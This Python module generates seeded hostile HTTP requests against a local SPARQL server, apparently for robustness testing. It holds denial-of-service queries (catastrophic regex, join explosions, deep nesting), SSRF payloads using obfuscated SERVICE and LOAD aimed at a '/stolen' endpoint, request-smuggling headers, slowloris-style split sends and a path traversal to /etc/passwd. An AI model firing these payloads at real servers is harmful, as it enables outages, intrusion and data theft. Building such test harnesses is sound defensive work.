"""Requests that mean a server ill, the same ones for the same seed: as bytes on the wire, for tests and attacks."""

from __future__ import annotations

import random
import socket
import time
from collections.abc import Callable, Iterator
from typing import NamedTuple
from urllib.parse import quote

_HEAD = "POST /sparql HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: {kind}\r\n{more}\r\n"
_DIRECT, _FORM = "application/sparql-query", "application/x-www-form-urlencoded"
_OUTSIDE = "http://127.0.0.1:{port}/stolen"


class Hostile(NamedTuple):
    """A request in parts, with seconds between two of them."""

    name: str
    parts: tuple[bytes, ...]
    pause: float = 0.0


def requests(count: int, seed: int, outside: int, large: int = 1 << 20) -> Iterator[Hostile]:
    """So many requests of all kinds in turns; ``outside`` is the port of a server that nothing may reach."""
    rng = random.Random(seed)
    kinds = (_query, _query, _service, _wire, _encoding, _slow)
    for number in range(count):
        yield kinds[number % len(kinds)](rng, _OUTSIDE.format(port=outside), large)


def sent(port: int, hostile: Hostile, client: str, seconds: float) -> int | None:
    """The status that came for a request from an address of this machine; nothing where the connection was closed."""
    try:
        with socket.create_connection(("127.0.0.1", port), seconds, (client, 0)) as wire:
            for number, part in enumerate(hostile.parts):
                time.sleep(hostile.pause if number else 0)
                wire.sendall(part)
            told = wire.recv(64)
    except ConnectionError:
        return None
    return int(told[9:12]) if told.startswith(b"HTTP/1.1 ") else None


def _posted(text: str | bytes, kind: str = _DIRECT, more: str = "") -> bytes:
    body = text if isinstance(text, bytes) else text.encode()
    return _HEAD.format(kind=kind, more=f"{more}Content-Length: {len(body)}\r\n").encode() + body


def _query(rng: random.Random, _outside: str, large: int) -> Hostile:
    n, number = rng.choice((90, 300, 3_000, 20_000)), rng.randrange(1 << 30)
    many = min(n * 40, large // 4)
    shapes: dict[str, Callable[[], str]] = {
        "product": lambda: "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
        "rows": lambda: "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        "groups": lambda: f"ASK {{ {'{' * n}{'}' * n} }}",
        "brackets": lambda: f"ASK {{ FILTER({'(' * n}1{')' * n}) }}",
        "signs": lambda: f"ASK {{ FILTER({'!' * n}true) }}",
        "sums": lambda: f"ASK {{ FILTER({'+'.join('1' * n)} > 0) }}",
        "unions": lambda: f"ASK {{ {' UNION '.join(['{ ?s ?p 1 }'] * n)} }}",
        "path": lambda: f"ASK {{ ?s {'/'.join(['<http://e.org/p>'] * n)} ?o }}",
        "exists": lambda: f"ASK {{ {'FILTER EXISTS { ?s ?p ?o ' * n}{'}' * n} }}",
        "paths": lambda: "SELECT ?s { ?s (<http://e.org/p>*)* ?o . ?t (!<http://e.org/p>)+ ?u . ?v (!rdf:type)* ?w }",
        "regex": lambda: f"SELECT * {{ ?s ?p ?o FILTER(REGEX(STR(?o), '^({'(a*)*' * 20}|a+)+b$')) }}",
        "long regex": lambda: f"ASK {{ FILTER(REGEX('{'a' * 5000}', '(a?){{1000}}{{1000}}')) }}",
        "values": lambda: f"SELECT * {{ VALUES ?x {{ {'1 ' * many} }} ?x ?p ?o }}",
        "columns": lambda: f"SELECT {' '.join(f'({i} AS ?x{i})' for i in range(n))} {{}}",
        "memory": lambda: f"SELECT ?x9 {{ BIND('x' AS ?x0){_tenfold()} }}",
        "concat": lambda: "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?d))) AS ?x) { ?a ?b ?c . ?d ?e ?f }",
        "construct": lambda: "CONSTRUCT { ?a ?e ?i } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        "order": lambda: "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY MD5(STR(?c)) SHA512(STR(?f))",
        "text": lambda: f"ASK {{ ?s ?p '{'x' * many}' }}",
        "token": lambda: f"ASK {{ ?s ?p {'a.' * (many // 2)} }}",
    }
    name = rng.choice([*shapes])
    return Hostile(name, (_posted(f"{shapes[name]()}\n# {number}"),))


def _tenfold() -> str:
    return "".join(f" BIND(CONCAT({', '.join([f'?x{n}'] * 10)}) AS ?x{n + 1})" for n in range(9))


def _service(rng: random.Random, outside: str, _large: int) -> Hostile:
    def escaped(word: str) -> str:
        forms = (lambda c: c, lambda c: f"\\u{ord(c):04X}", lambda c: f"\\U{ord(c):08x}")
        return "".join(rng.choice(forms)(character) for character in word)

    text = rng.choice(
        (
            "ASK {{ {service} <{outside}> {{ ?s ?p ?o }} }}",
            "ASK {{ #\n{service}#\n#}}\nSILENT <{outside}> {{ ?s ?p ?o }} }}",
            "ASK {{ ?s ?p 'a' #' {service} <{outside}> {{}}\r{service} <{outside}> {{ ?s ?p ?o }} }}",
            "SELECT * {{ VALUES ?g {{ <{outside}> }} {service} ?g {{ ?s ?p ?o }} }}",
            'ASK {{ ?s ?p """x""" . {{ SELECT * {{ {service} SILENT <{outside}> {{ ?s ?p ?o }} }} }} }}',
            "SELECT * FROM <{outside}> FROM NAMED <{outside}> {{ ?s ?p ?o }}",
            "DESCRIBE <{outside}>",
            "{load} <{outside}> INTO GRAPH <http://e.org/g>",
            "PREFIX a: <{outside}> ASK {{}} ; {load} <{outside}>",
        )
    )
    text = text.format(service=escaped("SERVICE"), load=escaped("LOAD"), outside=outside)
    if rng.random() < 0.5:
        return Hostile("service", (_posted(text),))
    fields = f"query={quote(text)}&default-graph-uri={quote(outside)}&named-graph-uri={quote(outside)}"
    return Hostile("service", (_posted(fields, _FORM),))


def _wire(rng: random.Random, outside: str, large: int) -> Hostile:
    body = b"x" * (large + rng.randrange(9))
    return Hostile(
        "wire",
        rng.choice(
            (
                (_HEAD.format(kind=_DIRECT, more="Content-Length: 99999999999\r\n").encode(), body),
                (_HEAD.format(kind=_DIRECT, more="Transfer-Encoding: chunked\r\n").encode() + b"FFFFFFF\r\n" + body,),
                (_posted(body),),
                (b"GET /" + body[:90_000] + b" HTTP/1.1\r\nHost: x\r\n\r\n",),
                (b"GET / HTTP/1.1\r\n" + b"".join(b"x-%d: y\r\n" % n for n in range(9000)) + b"\r\n",),
                (b"GET /sparql?query=ASK%20{} HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",),
                (b"GET " + outside.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n",),
                (b"GET //[::x]/ HTTP/1.1\r\nHost: x\r\n\r\n",),
                (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + rng.randbytes(200),),
                (rng.randbytes(3000),),
                (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\nASK{}",),
                (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nASK{}",),
                (b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: \xd9\xa3\r\n\r\nASK{}",),
                (b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",),
                (b"GET /sparql?query=ASK%7B%7D&lang=%0d%0aA:b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",),
                (b"PUT /sparql HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",),
                (b"GET /sparql HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: upgrade, close\r\n\r\n",),
            )
        ),
    )


def _encoding(rng: random.Random, _outside: str, _large: int) -> Hostile:
    noise = rng.randbytes(rng.choice((3, 300, 3000)))
    return Hostile(
        "encoding",
        rng.choice(
            (
                (_posted(b"ASK { ?s ?p '" + noise + b"' }"),),
                (_posted("ASK {}".encode("utf-16"), f"{_DIRECT}; charset=utf-16"),),
                (_posted(b"query=" + noise, _FORM),),
                (_posted(b"query=%ff%fe%00" + quote(noise).encode(), _FORM),),
                (_posted(b"query=ASK{}&" * 5000, _FORM),),
                (_posted("ASK { ?s ?p '\ud800' }".encode("utf-8", "surrogatepass")),),
                (_posted("ASK { ?s ?p '\\uD800\\uDFFF\\U0011FFFF' }"),),
                (_posted("ASK { ?s ?p '\0' }"),),
                (_posted("\ufeffASK { ?s ?p '\u202e' }"),),
                (_posted(noise, "multipart/form-data; boundary=x"),),
                (_posted(noise, "application/json", "Content-Encoding: gzip\r\n"),),
                (_posted("ASK {}", _DIRECT, f"Accept: {'a/b;q=0.1,' * 3000}\r\n"),),
                (_posted("ASK {}", _DIRECT, "Accept: */*;q=\r\nAccept-Language: ;;;,,\r\n"),),
                (_posted("ASK {}", _DIRECT, 'If-None-Match: "\r\nX-Forwarded-For: ,,\r\n'),),
            )
        ),
    )


def _slow(rng: random.Random, _outside: str, large: int) -> Hostile:
    head = _HEAD.format(kind=_DIRECT, more="Content-Length: 6\r\n").encode()
    text = f"SELECT * {{ ?s ?p ?o }} LIMIT 20000 # {rng.randrange(1 << 30)}"
    return Hostile(
        "slow",
        rng.choice(
            (
                (head, b"A", b"S", b"K"),
                (head[:20], head[20:40], head[40:]),
                (_posted(text), b"", b""),
                (_posted("ASK {}") * 50,),
                (b"\r\n" * 1000,),
            )
        ),
        pause=rng.choice((0.05, 0.3)),
    )
